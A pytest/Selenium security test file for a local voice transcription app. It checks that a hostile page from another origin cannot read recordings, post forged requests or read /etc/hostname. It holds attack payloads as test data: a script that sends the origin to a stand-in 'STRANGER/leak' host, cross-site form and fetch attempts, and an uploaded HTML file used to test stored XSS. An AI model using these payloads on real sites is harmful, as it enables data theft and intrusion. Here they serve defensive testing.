"""A web page of somebody else's in the same browser, and what it cannot get out of ours.

The stranger's server has another port and, through /etc/hosts or the browser's own resolver, another
name. It serves a page that tries each way in, and an `x.png` that is a script.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pytest

pytest.importorskip("gradio", reason="gradio is not installed; pip install '.[app]'")

from fakes.browser import chromium, open_tab, until, within
from fakes.page import BOOK, kept_files, serving_page
from selenium import webdriver
from selenium.webdriver.common.by import By

from voice.audio import write
from voice.types import Audio

SCRIPT = "<script>new Image().src = 'STRANGER/leak?from=' + encodeURIComponent(location.origin)</script>"
# Each way ends in window.got[name]: what could be read, or "" where nothing could.
TRIES = """<script>
window.got = {};
const told = (name) => (what) => { window.got[name] = String(what ?? ""); };
const read = (name, promise) => promise.then(told(name), () => told(name)(""));
const image = (path) => new Promise((yes, no) => {
  const it = new Image(); it.onload = () => yes("shown"); it.onerror = no; it.src = "OURS" + path;
});
const text = (path, about) => fetch("OURS" + path, about).then((answer) => answer.text());
const script = (path) => new Promise((yes, no) => {
  const it = document.createElement("script"); it.onload = () => yes("ran"); it.onerror = no;
  it.src = "OURS" + path; document.head.append(it);
});
const socket = (path) => new Promise((yes, no) => {
  const it = new WebSocket("OURS".replace("http", "ws") + path);
  it.onopen = () => yes("open"); it.onmessage = (event) => yes(event.data); it.onerror = no; it.onclose = no;
});
const frame = (path) => new Promise((yes) => {
  const it = document.createElement("iframe"); it.src = "OURS" + path; document.body.append(it);
  it.onload = () => { try { yes(it.contentDocument.body.textContent); } catch { yes(""); } };
});
const sound = (path) => new Promise((yes, no) => {
  const it = new Audio("OURS" + path); it.onloadedmetadata = () => yes(it.duration); it.onerror = no;
});
const form = (path, type, fields) => new Promise((yes) => {
  document.body.insertAdjacentHTML("beforeend", `<iframe name="to"></iframe>
    <form target="to" method="post" enctype="${type}" action="OURS${path}">${fields}</form>`);
  const it = document.forms[document.forms.length - 1];
  for (const input of it.querySelectorAll("input[type=file]")) {
    const files = new DataTransfer();
    files.items.add(named("form.wav"));
    input.files = files.files;
  }
  it.submit(); setTimeout(() => yes(""), 500);
});
const named = (name) => new File(["sent"], name);
const put = new FormData();
put.append("files", named("put.wav"));
const join = "/gradio_api/queue/join";
const file = { path: "/etc/hostname", meta: { _type: "gradio.FileData" } };
const body = JSON.stringify({ data: [file], fn_index: 0 });
Promise.all([
  read("fetch", text("/")), read("models", text("/v1/models")), read("config", text("/config")),
  read("metrics", text("/metrics")),
  read("file", text("FILE")), read("post", text(join, { method: "POST", body })),
  read("blind", text(join, { method: "POST", body, mode: "no-cors", credentials: "include" })),
  read("put", text("/gradio_api/upload", { method: "POST", body: put })),
  read("image", image("/favicon.ico")), read("fetched", image("/gradio_api/file=STRANGER/x.png")),
  read("sound", sound("FILE")), read("script", script("/talk/pcm.js")),
  read("socket", socket("/v1/realtime")),
  read("frame", frame("/")), read("framed", frame("/gradio_api/file=STRANGER/x.png")),
  read("form", form(join, "text/plain",
    `<input name='{"data":["' value='"],"fn_index":0,"session_hash":"x"}'>`)),
  read("form2", form("/gradio_api/upload", "multipart/form-data", `<input type="file" name="files">`)),
]).then(() => { window.done = true; });
</script>"""
# What nobody can read: frames, what is fetched from elsewhere, and the answers of forms.
UNREADABLE = {"frame", "framed", "fetched", "form", "form2"}


@pytest.fixture(scope="module")
def ours() -> Iterator[str]:
    with serving_page() as address:
        yield address


class Stranger:
    """Somebody else's server: what it was asked for, and the page that it serves at "/"."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.pages: dict[str, str] = {}

    @property
    def leaks(self) -> list[str]:
        return [path for path in self.asked if path.startswith(("/leak", "/x.png"))]


@pytest.fixture(scope="module")
def stranger() -> Iterator[Stranger]:
    made = Stranger()

    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.asked.append(self.path)
            page = made.pages.get(self.path, SCRIPT.replace("STRANGER", made.address))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: object) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answers)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    made.port = server.server_port
    made.address = f"http://stranger.test:{made.port}"
    yield made
    server.shutdown()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[webdriver.Chrome]:
    """Under its own policy; every name that ends in .test is this machine."""
    folder = tmp_path_factory.mktemp("browser")
    write(folder / "said.wav", Audio(np.concatenate([np.zeros(8000, np.float32), BOOK.say(0)]), 16_000))
    names = ("--host-resolver-rules=MAP *.test 127.0.0.1",)
    with chromium(folder / "profile", folder / "said.wav", tapped=False, more=names) as driver:
        driver.get("about:blank")
        yield driver


@pytest.fixture
def used(browser: webdriver.Chrome, ours: str, tmp_path: Path) -> webdriver.Chrome:
    """A browser in whose first tab a recording was transcribed."""
    write(tmp_path / "private.wav", Audio(np.concatenate([np.zeros(8000, np.float32), BOOK.say(0)]), 16_000))
    browser.get(ours)
    until(lambda: within(browser, "#recording input[type=file]")).send_keys(str(tmp_path / "private.wav"))
    until(lambda: kept_files("private.wav"))
    time.sleep(0.5)
    within(browser, "#transcribe-go").click()
    until(lambda: "words in" in within(browser, "#transcribe-status").text)
    return browser


def visit(browser: webdriver.Chrome, stranger: Stranger, path: str, page: str) -> None:
    """Goes to a page of the stranger's, as one follows a link."""
    stranger.asked.clear()
    stranger.pages[path] = page
    browser.get(stranger.address + path)


def uploaded_files() -> set[Path]:
    """The files that tries have brought to the page."""
    return {path for name in ("put.wav", "form.wav") for path in kept_files(name)}


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "stranger.test"])
def test_a_page_elsewhere_reads_nothing(
    used: webdriver.Chrome, ours: str, stranger: Stranger, host: str
) -> None:
    ours = ours.replace("127.0.0.1", host) if host != "stranger.test" else ours
    file, before = kept_files("private.wav")[0], uploaded_files()
    used.switch_to.new_window("tab")
    try:
        tries = TRIES.replace("OURS", ours).replace("STRANGER", stranger.address)
        visit(used, stranger, f"/{host}", tries.replace("FILE", f"/gradio_api/file={file}"))
        until(lambda: used.execute_script("return window.done"), 20)
        got = used.execute_script("return window.got")
        assert len(got) == 17
        assert not {name: what for name, what in got.items() if what}
        time.sleep(0.3)
        assert not stranger.leaks
        assert uploaded_files() <= before
    finally:
        used.close()
        used.switch_to.window(used.window_handles[0])


def test_the_page_itself_gets_by_the_same_ways_what_others_do_not(
    used: webdriver.Chrome, ours: str, stranger: Stranger
) -> None:
    """Without its own policy, which keeps it from forms and from scripts of tests."""
    file = kept_files("private.wav")[0]
    tries = TRIES.replace("OURS", ours).replace("STRANGER", stranger.address)
    script = (
        tries.replace("FILE", f"/gradio_api/file={file}").replace("<script>", "").replace("</script>", "")
    )
    used.execute_cdp_cmd("Page.setBypassCSP", {"enabled": True})
    try:
        used.get(ours)
        used.execute_script(script)
        until(lambda: used.execute_script("return window.done"), 20)
        got = used.execute_script("return window.got")
        assert len(got) == 17
        assert {name for name, what in got.items() if not what} == UNREADABLE
        until(lambda: {path.name for path in uploaded_files()} == {"put.wav", "form.wav"}, 20)
    finally:
        used.execute_cdp_cmd("Page.setBypassCSP", {"enabled": False})
        used.get("about:blank")


def test_the_script_that_strangers_would_run_tells_them_so(
    browser: webdriver.Chrome, stranger: Stranger
) -> None:
    visit(browser, stranger, "/script", SCRIPT.replace("STRANGER", stranger.address))
    until(lambda: stranger.leaks)


@pytest.mark.parametrize(
    "path",
    ["/gradio_api/file=STRANGER/x.png", "/gradio_api/proxy=STRANGER/x.png", "/gradio_api/file=STRANGER/x"],
)
def test_a_page_elsewhere_cannot_have_its_script_fetched_and_run_as_ours(
    browser: webdriver.Chrome, ours: str, stranger: Stranger, path: str
) -> None:
    goal = ours + path.replace("STRANGER", stranger.address)
    visit(browser, stranger, "/go", f"<script>location = {json.dumps(goal)}</script>")
    until(lambda: browser.current_url.startswith(ours))
    assert "Another web page asked for this" in within(browser, "h1").text
    browser.get(goal)  # by hand, from the address bar
    time.sleep(0.5)
    assert not stranger.leaks


def test_an_upload_that_is_a_page_does_not_run(used: webdriver.Chrome, ours: str, stranger: Stranger) -> None:
    stranger.asked.clear()
    script = """
    const end = arguments[1], form = new FormData();
    form.append("files", new File([arguments[0]], "a.html", { type: "text/html" }));
    fetch("/gradio_api/upload", { method: "POST", body: form })
      .then((answer) => answer.json()).then((paths) => end(paths[0]), end);
    """
    path = used.execute_async_script(script, SCRIPT.replace("STRANGER", stranger.address))
    used.execute_script("location = arguments[0]", f"/gradio_api/file={path}")
    time.sleep(1)
    assert not stranger.leaks


def test_a_link_leads_to_the_page(browser: webdriver.Chrome, ours: str, stranger: Stranger) -> None:
    visit(browser, stranger, "/link", f'<a href="{ours}/">Voice</a>')
    within(browser, "a").click()
    until(lambda: "Transcribe" in within(browser, "body").text)


def test_another_name_for_this_machine_is_refused_in_words(browser: webdriver.Chrome, ours: str) -> None:
    browser.get(ours.replace("127.0.0.1", "voice.test"))
    assert "VOICE_HOSTS=voice.test" in within(browser, "body").text


def test_the_page_works_under_its_own_policy(browser: webdriver.Chrome, request) -> None:
    browser.get("about:blank")
    browser.get_log("browser")  # what others have left there
    used = request.getfixturevalue("used")
    open_tab(used, "Voiceover")
    until(lambda: within(used, "#speak-go").is_displayed())
    within(used, "#speak-go").click()
    until(lambda: "of speech made" in within(used, "#voiceover-status").text)
    player = within(used, "#voiceover-player .player")
    until(lambda: float(player.get_attribute("data-seconds") or 0) > 0.5)
    until(lambda: used.find_elements(By.CSS_SELECTOR, "#voiceover-whole #waveform, #voiceover-whole audio"))
    open_tab(used, "Talk")
    until(lambda: within(used, ".talk[data-mounted]"))
    problems = [row["message"] for row in used.get_log("browser") if row["level"] == "SEVERE"]
    assert not problems


def test_nothing_that_was_said_or_written_stays_in_the_browser(used: webdriver.Chrome) -> None:
    open_tab(used, "Voiceover")
    box = until(lambda: within(used, "#text textarea"))
    until(box.is_displayed)
    box.clear()
    box.send_keys("My secret diary entry.")
    within(used, "#speak-go").click()
    until(lambda: "of speech made" in within(used, "#voiceover-status").text)
    kept = used.execute_async_script(
        """const end = arguments[0];
        (async () => [Object.entries(localStorage), Object.entries(sessionStorage),
          (await indexedDB.databases()).map((each) => each.name), await caches.keys()])().then(end);"""
    )
    assert "diary" not in json.dumps(kept) and "time?" not in json.dumps(kept)
    assert kept[2:] == [[], []]


def test_files_go_when_the_tab_is_closed(used: webdriver.Chrome) -> None:
    room = kept_files("private.wav")[0].parents[2]
    used.switch_to.new_window("tab")
    second = used.current_window_handle
    used.switch_to.window(used.window_handles[0])
    used.close()
    used.switch_to.window(second)
    until(lambda: not room.exists(), 30)
